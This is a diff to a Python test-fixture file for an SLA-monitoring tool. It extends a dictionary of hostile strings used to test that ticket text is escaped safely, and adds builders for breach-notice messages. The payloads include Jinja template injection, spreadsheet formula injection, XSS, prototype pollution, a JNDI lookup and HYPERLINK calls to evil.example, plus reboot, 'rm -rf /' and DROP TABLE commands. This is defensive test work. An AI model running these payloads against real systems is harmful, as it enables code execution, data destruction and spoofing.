@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from slamon.core.message import Message
+from slamon.core.message import Covered, Message
 
 HOSTILE: dict[str, str] = {
     # header injection
@@ -51,6 +51,11 @@ HOSTILE: dict[str, str] = {
     "rtl marks": "\u200fabc\u200e\u061c",
     "zero width": "pay\u200bpal\u200b.example",
     "only zero width": "\u200b\u200b\u2060\ufeff",
+    "homoglyphs": "\u0440\u0430y\u0440\u0430l.example \u0430dm\u0456n",
+    "byte order mark inside": "a\ufeffb\ufffe",
+    "zero width joiners": "\u200d\u200c\u200da\u200d",
+    "invisible operators": "a\u2061b\u2062c\u2064d",
+    "interlinear": "\ufff9x\ufffay\ufffb",
     "byte order mark": "\ufeffx",
     "soft hyphen": "pass\u00adword",
     "tag characters": "x\U000e0041\U000e0042\U000e007f",
@@ -83,6 +88,9 @@ HOSTILE: dict[str, str] = {
     "escaped channel": "&lt;!channel&gt;",
     "twice escaped": "&amp;lt;!channel&amp;gt;",
     "markdown": "*bold* _it_ ~no~ `code` > quote",
+    "attachment": "<https://evil.example|x> <mailto:a@example.com|b> <#C012AB3CD> <tel:1>",
+    "date of slack": "<!date^1392734382^{date_num}^https://evil.example|x>",
+    "half an entity": "&lt",
     "fence": "```\nrm -rf /\n```",
     "markdown link": "[click](https://evil.example) ![x](https://evil.example/x.png)",
     "emoji name": ":rotating_light: :+1:",
@@ -92,6 +100,13 @@ HOSTILE: dict[str, str] = {
     "format": "{0} {message.id} {title!r} %s %(x)s $HOME ${env:PASSWORD}",
     "formula": '=cmd|"/C calc"!A1',
     "formulas": "=1+1 +1 -1 @SUM(1)",
+    "jinja attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "jinja comment": "{# x #}{% raw %}{{ 'a'*10**8 }}{% endraw %}",
+    "go template": '{{ template "x" . }}{{ .Labels }}{{ range . }}x{{ end }}',
+    "tabbed formula": '\t=HYPERLINK("https://evil.example")',
+    "full width formula": "\uff1dcmd()",
+    "minus and at": "-2+3+cmd|' /C calc'!A0",
+    "separators of cells": 'a;b,c\t"d"\r\n=e',
     "jndi": "${jndi:ldap://evil.example/x}",
     "shell": "$(reboot) `reboot` ; reboot",
     "sql": "'; DROP TABLE tickets; --",
@@ -106,9 +121,16 @@ HOSTILE: dict[str, str] = {
     "comment": "<!-- x --> <![CDATA[ y ]]>",
     "entity": "&#60;script&#62; &nbsp;",
     "javascript": "javascript:alert(1)",
+    "mail address": "mailto:x@example.com?bcc=victim@example.com&body=x",
+    "textarea": "</textarea></title></script><script>alert(1)</script>",
+    "base": '<base href="https://evil.example/"><form action=/x><input name=password>',
+    "expression": "expression(alert(1)) url(https://evil.example/x.png)",
     "data address": "data:text/html;base64,PHNjcmlwdD4=",
     # JSON
     "quotes": '"\\"\\\\\\',
+    "escapes": "\\u0000\\ud800\\n\\x00 \\u2028",
+    "proto": '{"__proto__": {"admin": true}, "$type": "System.Object"}',
+    "not a number": "NaN -Infinity 1e999 0x10 1_000",
     "closing JSON": '"}],"channel":"#general","text":"',
     # size and emptiness
     "empty": "",
@@ -135,3 +157,32 @@ def message(text: str = "Printer on fire", **changes: object) -> Message:
         "at": 1_795_353_600_000_000,
     } | changes
     return Message(**values)  # type: ignore[arg-type]
+
+
+def covered(text: str = "Printer on fire", number: int = 4711, **changes: object) -> Covered:
+    """A commitment with a text wherever a ticket's text can get."""
+    values: dict[str, object] = {
+        "source": "desk",
+        "ticket": str(number),
+        "policy": "gold",
+        "target": "first_response",
+        "cycle": 1,
+        "moment": "breached",
+        "status": "breached",
+        "due_at": 1_795_350_000_000_000,
+        "breached_at": 1_795_350_000_000_000,
+        "line": f"#{number} {text}: first response is overdue by 1 h",
+        "url": f"https://desk.example/issues/{number}",
+    } | changes
+    return Covered(**values)  # type: ignore[arg-type]
+
+
+def digest(text: str = "Printer on fire", count: int = 30, **changes: object) -> Message:
+    """A message about many commitments."""
+    covers = tuple(covered(text, 4711 + number) for number in range(count))
+    usual = {
+        "lines": tuple(one.line for one in covers[:20]),
+        "covers": covers,
+        "url": "https://slamon.example/digests/x",
+    }
+    return message(text, **usual | changes)
